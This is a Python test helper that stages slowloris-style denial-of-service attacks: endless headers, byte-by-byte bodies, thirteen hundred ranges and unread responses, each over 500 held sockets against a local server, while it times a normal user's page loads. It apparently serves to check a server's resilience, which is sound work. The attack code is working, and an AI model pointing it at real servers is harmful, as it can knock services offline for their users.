"""Many sockets that hold a server up, in the four ways of slowhttptest (H, B, R, X), and one who only wants a page.

The sockets are many and send a byte now and then: they cost the one who opens them nearly nothing.
"""

from __future__ import annotations

import socket
import ssl
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field

import httpx

HOST = "Host: localhost\r\n"
FORM = (
    f"POST /1/talks/tell HTTP/1.1\r\n{HOST}Sec-Fetch-Site: same-origin\r\n"
    "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 200000\r\n\r\n"
)
RANGES = ",".join(f"5-{number}" for number in range(1_300))
#: What each sends at first, and then again and again; X never reads what it asked for.
ATTACKS = {
    "H, headers that never end": (f"GET / HTTP/1.1\r\n{HOST}X-", "a: b\r\nX-"),
    "B, a body byte by byte": (FORM, "a"),
    "R, thirteen hundred ranges": (
        f"GET /static/house.css HTTP/1.1\r\n{HOST}Range: bytes=0-,{RANGES}\r\n\r\n", "",
    ),
    "X, answers that nobody reads": ((f"GET /static/house.css HTTP/1.1\r\n{HOST}\r\n") * 4, ""),
}  # fmt: skip
SOCKETS, EVERY = 500, 1.0


@dataclass
class Held:
    """opened: sockets that were opened · ended: of these, closed by the server so far (they are opened anew)."""

    opened: int = 0
    ended: int = 0
    stop: threading.Event = field(default_factory=threading.Event)


@contextmanager
def attack(how: str, port: int, *, secure: bool = False) -> Iterator[Held]:
    """Five hundred sockets, each opened anew when the server has had enough of it."""
    first, then = (part.encode() for part in ATTACKS[how])
    held = Held()
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE

    def opened() -> socket.socket | None:
        line = socket.socket()
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2_048)
        line.settimeout(10)
        try:
            line.connect(("127.0.0.1", port))
            if secure:
                line = context.wrap_socket(line, server_hostname="localhost")
            line.sendall(first)
        except OSError:
            line.close()
            return None
        line.setblocking(False)
        held.opened += 1
        return line

    def hold(many: int) -> None:
        lines = [opened() for _ in range(many)]
        while not held.stop.wait(EVERY):
            for place, line in enumerate(lines):
                if line is None or over(line, how, then):
                    held.ended += line is not None
                    lines[place] = None if line is None else line.close()
                    if lines[place] is None and not held.stop.is_set():
                        lines[place] = opened()
        for line in lines:
            if line is not None:
                line.close()

    threads = [threading.Thread(target=hold, args=(SOCKETS // 10,)) for _ in range(10)]
    for one in threads:
        one.start()
    try:
        yield held
    finally:
        held.stop.set()
        for one in threads:
            one.join()


def over(line: socket.socket, how: str, then: bytes) -> bool:
    """Send the next bit; whether the server has ended this one."""
    try:
        if then:
            line.send(then)
        if not how.startswith("X"):
            return line.recv(65_536) == b""
    except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
        return False
    except OSError:
        return True
    return False


def normal(address: str, cookie: str, seconds: float) -> tuple[list[float], int]:
    """A person who looks at pages meanwhile, on a line of their own each time: times of what came, and what did not."""
    times, failed = list[float](), 0
    context = httpx.create_ssl_context(verify=False)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        begun = time.perf_counter()
        with suppress(httpx.HTTPError), httpx.Client(verify=context, timeout=5, trust_env=False) as client:
            if client.get(f"{address}/1/today", headers={"cookie": cookie}).status_code == 200:
                times.append(time.perf_counter() - begun)
                continue
        failed += 1
    return times, failed
